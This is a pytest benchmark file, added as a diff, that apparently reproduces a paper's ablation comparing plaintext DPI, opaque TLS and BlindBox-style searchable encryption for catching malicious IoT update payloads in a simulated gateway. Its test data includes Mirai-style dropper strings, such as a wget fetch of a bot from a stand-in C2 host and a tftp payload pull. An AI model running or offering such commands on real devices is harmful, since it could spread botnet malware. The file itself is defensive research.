@@ -1,0 +1,126 @@
+"""A4 — ablation: encrypted-traffic inspection options (§IV-B.2).
+
+The paper rejects TLS-interception middleboxes ("this breaks the
+end-to-end security of SSL") in favour of BlindBox-style searchable
+encryption.  This ablation pushes a stream of update payloads — some
+carrying dropper/C2 strings — through the gateway monitor under three
+regimes and reports catch rate and what the middlebox could read:
+
+* plaintext DPI (no encryption at all);
+* opaque TLS (end-to-end encryption, no tokens);
+* searchable tokens (end-to-end encryption + BlindBox tokens).
+"""
+
+import pytest
+
+from benchmarks.conftest import emit
+from repro.metrics import format_table
+from repro.network.packet import Packet
+from repro.network.protocols.tls import CertificateAuthority, TlsSession
+from repro.security.network.monitor import EncryptedTrafficMonitor
+from repro.sim import Simulator
+
+TOKEN_KEY = b"gateway-blindbox-key"
+
+MALICIOUS_PAYLOADS = [
+    "wget http://c2.evil/bot; chmod +x bot",
+    "tftp -g -r payload 198.18.0.66",
+    "mirai loader stage2",
+    "attack flood udp 198.18.0.99",
+]
+BENIGN_PAYLOADS = [
+    "firmware version 2.1.0 changelog: stability fixes",
+    "configuration sync heartbeat",
+    "telemetry batch upload",
+    "certificate rotation notice",
+]
+
+
+def payload_keywords(text):
+    return text.replace(";", " ").split()
+
+
+def run_regime(regime):
+    sim = Simulator(seed=5)
+    monitor = EncryptedTrafficMonitor(
+        sim, token_key=TOKEN_KEY if regime == "searchable" else None,
+        block_matches=True)
+    ca = CertificateAuthority()
+    cert = ca.issue("updates.example.com", b"pub")
+    session = TlsSession.handshake(
+        b"client", cert, ca,
+        token_key=TOKEN_KEY if regime == "searchable" else None)
+    caught = 0
+    false_positives = 0
+    plaintext_readable = 0
+    for text, malicious in (
+        [(p, True) for p in MALICIOUS_PAYLOADS]
+        + [(p, False) for p in BENIGN_PAYLOADS]
+    ):
+        if regime == "plaintext":
+            packet = Packet(src="a", dst="b", payload={"update": text},
+                            encrypted=False, src_device="updater")
+            plaintext_readable += 1
+        else:
+            keywords = payload_keywords(text) if regime == "searchable" else ()
+            record = session.wrap({"update": text}, keywords=keywords)
+            packet = Packet(src="a", dst="b", payload=record,
+                            encrypted=True, src_device="updater")
+        rule = monitor.inspect(packet)
+        if rule is not None and malicious:
+            caught += 1
+        elif rule is not None and not malicious:
+            false_positives += 1
+    return {
+        "caught": caught,
+        "total_malicious": len(MALICIOUS_PAYLOADS),
+        "false_positives": false_positives,
+        "plaintext_readable": plaintext_readable,
+        "opaque": monitor.opaque_packets,
+    }
+
+
+@pytest.fixture(scope="module")
+def regime_results():
+    return {regime: run_regime(regime)
+            for regime in ("plaintext", "opaque-tls", "searchable")}
+
+
+def test_a4_dpi_regimes(benchmark, regime_results):
+    benchmark.pedantic(lambda: run_regime("searchable"),
+                       rounds=1, iterations=1)
+    rows = []
+    for regime, r in regime_results.items():
+        rows.append([
+            regime,
+            f"{r['caught']}/{r['total_malicious']}",
+            r["false_positives"],
+            "yes" if r["plaintext_readable"] else "no",
+            "no" if regime == "plaintext" else "yes",
+        ])
+    emit("A4 — update inspection regimes: catch rate vs. privacy",
+         format_table(
+             ["regime", "malware caught", "false positives",
+              "middlebox reads plaintext", "end-to-end encryption"],
+             rows))
+
+
+def test_a4_searchable_matches_plaintext_catch_rate(benchmark,
+                                                    regime_results):
+    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
+    assert regime_results["searchable"]["caught"] == \
+        regime_results["plaintext"]["caught"] == len(MALICIOUS_PAYLOADS)
+
+
+def test_a4_opaque_tls_catches_nothing(benchmark, regime_results):
+    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
+    assert regime_results["opaque-tls"]["caught"] == 0
+    assert regime_results["opaque-tls"]["opaque"] == \
+        len(MALICIOUS_PAYLOADS) + len(BENIGN_PAYLOADS)
+
+
+def test_a4_searchable_preserves_end_to_end_secrecy(benchmark,
+                                                    regime_results):
+    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
+    assert regime_results["searchable"]["plaintext_readable"] == 0
+    assert regime_results["searchable"]["false_positives"] == 0
